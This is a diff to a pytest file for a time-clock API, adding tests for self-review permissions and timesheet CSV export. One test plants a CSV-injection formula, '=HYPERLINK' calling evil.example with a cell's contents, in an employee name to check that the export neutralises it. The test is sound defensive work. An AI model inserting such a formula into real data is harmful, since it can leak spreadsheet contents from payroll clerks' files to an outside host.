@@ -11,7 +11,9 @@ from typing import Any
 
 import httpx
 import pytest
+from sqlalchemy import update
 
+from domain.people.models import Employee
 from domain.shared.clock import ManualClock
 from domain.shared.db import Database
 from tests.factories import World, assign
@@ -309,7 +311,6 @@ async def test_an_unflagged_punch_is_not_reviewed(client: httpx.AsyncClient, wor
     ("reviewer", "status", "slug"),
     [
         ("manager_s2", 404, "clock_in.not_found"),
-        ("staff_s1", 404, "clock_in.not_found"),
         ("staff_s2", 404, "clock_in.not_found"),
         ("leader", 403, "auth.forbidden"),
     ],
@@ -323,6 +324,23 @@ async def test_only_the_stores_manager_or_hr_reviews(
     assert problem_type(answer) == f"/problems/{slug}"
     mine = await client.get("/api/v1/me/clock-ins", headers=world.headers("staff_s1"))
     assert mine.json()["items"][0]["review_status"] is None
+
+
+async def test_an_employee_reviewing_her_own_punch_is_told_why_not_that_it_does_not_exist(
+    client: httpx.AsyncClient, world: World
+):
+    """She lists the punch among her own, so a 404 would be a lie: 403 with the reason. A punch she
+    cannot see (a colleague's) stays 404, so ids leak nothing."""
+    own = await punch(client, world, "staff_s1", mock_location=True)
+    answer = await review(client, world, "staff_s1", own["id"])
+    assert answer.status_code == 403, answer.text
+    assert problem_type(answer) == "/problems/clock_in.own_punch"
+    assert "own punch" in answer.json()["detail"]
+    colleague = await punch(client, world, "manager_s1", mock_location=True)
+    hidden = await review(client, world, "staff_s1", colleague["id"])
+    assert hidden.status_code == 404 and problem_type(hidden) == "/problems/clock_in.not_found"
+    mine = await client.get("/api/v1/me/clock-ins", headers=world.headers("staff_s1"))
+    assert [p["review_status"] for p in mine.json()["items"]] == [None]
 
 
 async def test_nobody_reviews_their_own_punch(client: httpx.AsyncClient, world: World):
@@ -470,6 +488,11 @@ async def timesheet(client: httpx.AsyncClient, world: World, who: str, **params:
     )
 
 
+def read_csv(answer: httpx.Response) -> list[list[str]]:
+    """The rows of a CSV download, as a spreadsheet reads it (UTF-8, its byte order mark dropped)."""
+    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
+
+
 async def test_hr_gets_one_row_per_person_day_and_store(client: httpx.AsyncClient, world: World, clock: ManualClock):
     await work_a_fortnight(client, world, clock)
     answer = await timesheet(client, world, "hr")
@@ -495,7 +518,7 @@ async def test_the_timesheet_as_csv_is_a_download_with_a_header_row(
     assert answer.status_code == 200, answer.text
     assert answer.headers["content-type"].startswith("text/csv")
     assert answer.headers["content-disposition"] == 'attachment; filename="timesheet-2026-03-01-2026-03-31.csv"'
-    header, *rows = list(csv.reader(io.StringIO(answer.text)))
+    header, *rows = read_csv(answer)
     assert header == TIMESHEET_COLUMNS
     assert rows == [
         ["E0102", "Staff S1", "S1", "2026-03-02", "2026-03-02T01:00:00+00:00", "2026-03-02T09:00:00+00:00", "480", ""],
@@ -513,9 +536,29 @@ async def test_the_timesheet_as_csv_is_a_download_with_a_header_row(
     ]
 
 
+async def test_a_name_a_spreadsheet_would_run_is_neutralised_in_the_timesheet_csv(
+    client: httpx.AsyncClient, world: World, clock: ManualClock, database: Database
+):
+    """The timesheet CSV goes to payroll clerks' spreadsheets: a name such as `=HYPERLINK(...)` must
+    arrive as text (leading apostrophe), as the pool payroll CSV already does; UTF-8 with a BOM so
+    Chinese names show as written."""
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    async with database.session_scope() as session:
+        for who, name in (("staff_s1", hostile), ("staff_s3", "张伟")):
+            await session.execute(update(Employee).where(Employee.id == world.employees[who]).values(full_name=name))
+    await work_a_fortnight(client, world, clock)
+    answer = await timesheet(client, world, "hr", format="csv")
+    assert answer.status_code == 200, answer.text
+    assert answer.content.startswith(b"\xef\xbb\xbf")
+    header, *rows = read_csv(answer)
+    assert header == TIMESHEET_COLUMNS
+    assert {row[1] for row in rows} == {"'" + hostile, "张伟"}
+    assert (await timesheet(client, world, "hr")).json()["rows"][0]["full_name"] == hostile  # JSON is data, not a sheet
+
+
 async def test_an_empty_period_is_a_header_row_only(client: httpx.AsyncClient, world: World):
     answer = await timesheet(client, world, "hr", format="csv")
-    assert list(csv.reader(io.StringIO(answer.text))) == [TIMESHEET_COLUMNS]
+    assert read_csv(answer) == [TIMESHEET_COLUMNS]
     assert (await timesheet(client, world, "hr")).json()["rows"] == []
 
 
